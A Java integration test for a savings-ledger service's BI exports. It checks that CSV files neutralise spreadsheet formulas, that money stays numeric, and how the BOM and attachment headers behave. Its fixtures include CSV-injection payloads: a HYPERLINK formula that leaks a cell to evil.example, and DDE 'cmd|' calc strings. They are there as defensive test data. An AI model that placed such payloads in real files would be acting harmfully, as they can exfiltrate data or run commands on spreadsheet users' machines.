package org.savingsledger.ops;

import com.fasterxml.jackson.databind.DeserializationFeature;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.boot.test.web.server.LocalServerPort;

import java.io.IOException;
import java.io.StringReader;
import java.math.BigDecimal;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.Arrays;
import java.util.List;
import java.util.UUID;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * What the BI files are as files: text a spreadsheet would run as a formula neutralised in CSV (and
 * left as it is in JSON Lines), money still plain numbers, served as attachments with their file
 * name, and a byte-order mark for Excel on request. Each test makes its own organisation's data.
 */
@AllInOneTest
class BiOutputTest {

    private static final ObjectMapper JSON = new ObjectMapper().enable(DeserializationFeature.USE_BIG_DECIMAL_FOR_FLOATS);

    private static final String NAME = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for figures\")";
    private static final String TITLE = "=cmd|' /C calc'!A0";

    @LocalServerPort
    int port;

    private final HttpClient http = HttpClient.newHttpClient();
    private ApiClient api;
    private String organisation;

    @BeforeEach
    void client() {
        api = new ApiClient(port);
        organisation = "bi-output-" + UUID.randomUUID().toString().substring(0, 8);
        api.withOrganisation(organisation);
    }

    @Test
    void formulaLookingTextIsNeutralisedInEveryCsvAndMoneyStaysPlainNumbers() throws Exception {
        String programme = created(api.post("/api/programmes", JSON.createObjectNode().put("organisation", organisation)
                .put("name", NAME).put("savingsTarget", 5379000).put("firstYear", "2018/19").put("lastYear", "2019/20")
                .put("reason", "-2+3").put("decisionRef", "@SUM(1+1)*cmd|' /C calc'!A0").toString()));
        String savingA = created(api.post("/api/programmes/" + programme + "/savings", saving(TITLE, "+Early Resolution",
                "@Transformation Director", "2018/19", "5379000")));
        String savingB = created(api.post("/api/programmes/" + programme + "/savings", saving("-5", "Café £1",
                "'@quoted", "2019/20", "1000.50")));
        ok(api.post("/api/savings/" + savingA + "/slips", JSON.createObjectNode().put("fromYear", "2018/19")
                .put("toYear", "2019/20").put("amount", 1000000).put("reason", "=HYPERLINK(\"http://evil.example\")")
                .put("decisionRef", "-1+1").toString()));
        String committee = created(api.post("/api/committees", JSON.createObjectNode().put("organisation", organisation)
                .put("name", "+Committee of the whole").toString()));
        ok(api.post("/api/committees/" + committee + "/programmes", "{\"programmeId\": \"" + programme + "\"}"));
        // the papers for the next meeting: its figures count what is effective by then, today's commands among them
        String nextMeeting = java.time.LocalDate.now(org.savingsledger.query.reading.CouncilTime.LONDON).plusDays(14).toString();
        String token = ok(api.post("/api/committees/" + committee + "/reports",
                "{\"meetingDate\": \"" + nextMeeting + "\", \"title\": \"=Position at month 9\"}"));
        String filter = "?organisation=" + organisation + "&consistencyToken=" + token;

        CSVRecord programmeRow = single(csv("programmes", filter));
        assertThat(programmeRow.get("name")).isEqualTo("'" + NAME);
        assertThat(programmeRow.get("programme_id")).isEqualTo(programme);
        assertThat(programmeRow.get("savings_target")).isEqualTo("5379000.00");
        assertThat(programmeRow.get("planned_total")).isEqualTo("5380000.50");
        // a negative amount of money is a number, not text: no apostrophe
        assertThat(programmeRow.get("gap_to_target")).isEqualTo("-1000.50");

        List<CSVRecord> savings = csv("savings", filter);
        assertThat(savings).extracting(r -> r.get("saving_id")).containsExactly(savingA, savingB);
        assertThat(savings.get(0).get("title")).isEqualTo("'=cmd|' /C calc'!A0");
        assertThat(savings.get(0).get("workstream")).isEqualTo("'+Early Resolution");
        assertThat(savings.get(0).get("owner")).isEqualTo("'@Transformation Director");
        assertThat(savings.get(0).get("planned_total")).isEqualTo("5379000.00");
        // "-5" in a text column is a title, not a number
        assertThat(savings.get(1).get("title")).isEqualTo("'-5");
        assertThat(savings.get(1).get("workstream")).isEqualTo("Café £1");
        // an apostrophe already there gets one more, so dropping one always gives the text back
        assertThat(savings.get(1).get("owner")).isEqualTo("''@quoted");
        assertThat(savings.get(1).get("planned_total")).isEqualTo("1000.50");
        assertThat(bytes("/api/bi/savings.csv" + filter)).containsSubsequence("Café £1".getBytes(StandardCharsets.UTF_8));

        assertThat(csv("saving_years", filter)).extracting(r -> r.get("saving_id") + " " + r.get("year") + " "
                + r.get("planned") + " " + r.get("slipped_in") + " " + r.get("slipped_out")).containsExactly(
                savingA + " 2018/19 4379000.00 0.00 1000000.00", savingA + " 2019/20 1000000.00 1000000.00 0.00",
                savingB + " 2018/19 0.00 0.00 0.00", savingB + " 2019/20 1000.50 0.00 0.00");

        List<CSVRecord> changes = csv("changes", filter);
        CSVRecord target = changes.stream().filter(r -> r.get("field").equals("savingsTarget")).findFirst().orElseThrow();
        assertThat(target.get("reason")).isEqualTo("'-2+3");
        assertThat(target.get("decision_ref")).isEqualTo("'@SUM(1+1)*cmd|' /C calc'!A0");
        assertThat(target.get("after")).isEqualTo("5379000.00");
        List<CSVRecord> slipped = changes.stream().filter(r -> r.get("event_type").equals("SavingSlippedToYear")).toList();
        assertThat(slipped).extracting(r -> r.get("year") + " " + r.get("before") + "->" + r.get("after") + " "
                + r.get("reason") + " " + r.get("decision_ref")).containsExactly(
                "2018/19 5379000.00->4379000.00 '=HYPERLINK(\"http://evil.example\") '-1+1",
                "2019/20 0.00->1000000.00 '=HYPERLINK(\"http://evil.example\") '-1+1");

        assertThat(csv("slips", filter)).extracting(r -> r.get("amount") + " " + r.get("reason") + " " + r.get("decision_ref"))
                .containsExactly("1000000.00 '=HYPERLINK(\"http://evil.example\") '-1+1");

        assertThat(csv("committee_reports", filter)).extracting(r -> r.get("committee_name") + " | " + r.get("title")
                + " | " + r.get("year") + " " + r.get("planned") + " " + r.get("cumulative_planned")).containsExactly(
                "'+Committee of the whole | '=Position at month 9 | 2018/19 4379000.00 4379000.00",
                "'+Committee of the whole | '=Position at month 9 | 2019/20 1001000.50 5380000.50");

        // JSON Lines are read by programs, not spreadsheets: the text exactly as recorded
        JsonNode savingLine = JSON.readTree(get("/api/bi/savings.jsonl" + filter).body().lines().findFirst().orElseThrow());
        assertThat(savingLine.path("title").asText()).isEqualTo(TITLE);
        assertThat(savingLine.path("workstream").asText()).isEqualTo("+Early Resolution");
        JsonNode programmeLine = JSON.readTree(get("/api/bi/programmes.jsonl" + filter).body());
        assertThat(programmeLine.path("name").asText()).isEqualTo(NAME);
        assertThat(programmeLine.path("gap_to_target").decimalValue()).isEqualByComparingTo("-1000.50");
    }

    @Test
    void extractsAreAttachmentsNamedAfterTheirDataset() throws Exception {
        assertThat(get("/api/bi/saving_years.csv").headers().firstValue("Content-Disposition"))
                .hasValue("attachment; filename=\"saving_years.csv\"");
        assertThat(get("/api/bi/changes.jsonl").headers().firstValue("Content-Disposition"))
                .hasValue("attachment; filename=\"changes.jsonl\"");
    }

    @Test
    void bomTrueStartsTheCsvWithAByteOrderMarkForExcel() throws Exception {
        String asAt = "?asAt=" + Instant.now();
        HttpResponse<byte[]> plain = getBytes("/api/bi/programmes.csv" + asAt);
        HttpResponse<byte[]> forExcel = getBytes("/api/bi/programmes.csv" + asAt + "&bom=true");

        assertThat(forExcel.statusCode()).isEqualTo(200);
        assertThat(Arrays.copyOf(forExcel.body(), 3)).containsExactly(0xEF, 0xBB, 0xBF);
        assertThat(Arrays.copyOfRange(forExcel.body(), 3, forExcel.body().length)).isEqualTo(plain.body());
        assertThat(new String(plain.body(), 0, 13, StandardCharsets.UTF_8)).isEqualTo("organisation,");
        assertThat(getBytes("/api/bi/programmes.csv" + asAt + "&bom=false").body()).isEqualTo(plain.body());
        // other bytes, another ETag: a refresh must not be told the file it holds is the same
        assertThat(forExcel.headers().firstValue("ETag")).isPresent()
                .isNotEqualTo(plain.headers().firstValue("ETag"));
        assertThat(forExcel.headers().firstValue("Content-Type")).hasValue("text/csv;charset=UTF-8");
    }

    @Test
    void bomIsTrueOrFalseAndOnlyForCsv() throws Exception {
        for (String refused : List.of("/api/bi/programmes.csv?bom=yes", "/api/bi/programmes.csv?bom=TRUE",
                "/api/bi/programmes.jsonl?bom=true")) {
            HttpResponse<String> response = get(refused);
            assertThat(response.statusCode()).as(refused).isEqualTo(400);
            assertThat(response.headers().firstValue("Content-Type")).hasValue("application/problem+json");
            assertThat(JSON.readTree(response.body()).path("errors").get(0).path("field").asText()).isEqualTo("bom");
        }
        assertThat(get("/api/bi/programmes.jsonl?bom=false").statusCode()).isEqualTo(200);

        JsonNode parameters = api.get("/v3/api-docs").json().path("paths").path("/api/bi/{file}").path("get").path("parameters");
        JsonNode bom = null;
        for (JsonNode parameter : parameters) {
            bom = parameter.path("name").asText().equals("bom") ? parameter : bom;
        }
        assertThat(bom).as("the OpenAPI description declares bom: %s", parameters).isNotNull();
        assertThat(bom.path("in").asText()).isEqualTo("query");
        assertThat(bom.path("schema").path("enum")).extracting(JsonNode::asText).containsExactly("true", "false");
    }

    private String saving(String title, String workstream, String owner, String year, String planned) {
        ObjectNode body = JSON.createObjectNode().put("title", title).put("workstream", workstream).put("owner", owner)
                .put("confidence", "CONFIDENT").put("stage", "IN_DELIVERY");
        body.putObject("profile").put(year, new BigDecimal(planned));
        return body.toString();
    }

    private static String created(ApiClient.Reply reply) {
        assertThat(reply.status()).as(reply.toString()).isEqualTo(201);
        return reply.id();
    }

    private static String ok(ApiClient.Reply reply) {
        assertThat(reply.status()).as(reply.toString()).isBetween(200, 201);
        return reply.json().path("consistencyToken").asText();
    }

    private static CSVRecord single(List<CSVRecord> rows) {
        assertThat(rows).hasSize(1);
        return rows.get(0);
    }

    private List<CSVRecord> csv(String dataset, String query) throws Exception {
        HttpResponse<String> response = get("/api/bi/" + dataset + ".csv" + query);
        assertThat(response.statusCode()).as(dataset).isEqualTo(200);
        return CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(response.body())).getRecords();
    }

    private byte[] bytes(String path) throws Exception {
        HttpResponse<byte[]> response = getBytes(path);
        assertThat(response.statusCode()).isEqualTo(200);
        return response.body();
    }

    private HttpResponse<String> get(String path) throws IOException, InterruptedException {
        return http.send(request(path), HttpResponse.BodyHandlers.ofString(StandardCharsets.UTF_8));
    }

    private HttpResponse<byte[]> getBytes(String path) throws IOException, InterruptedException {
        return http.send(request(path), HttpResponse.BodyHandlers.ofByteArray());
    }

    private HttpRequest request(String path) {
        return HttpRequest.newBuilder(URI.create("http://localhost:" + port + path))
                .header("Authorization", ApiClient.adminAuthorization()).GET().build();
    }
}
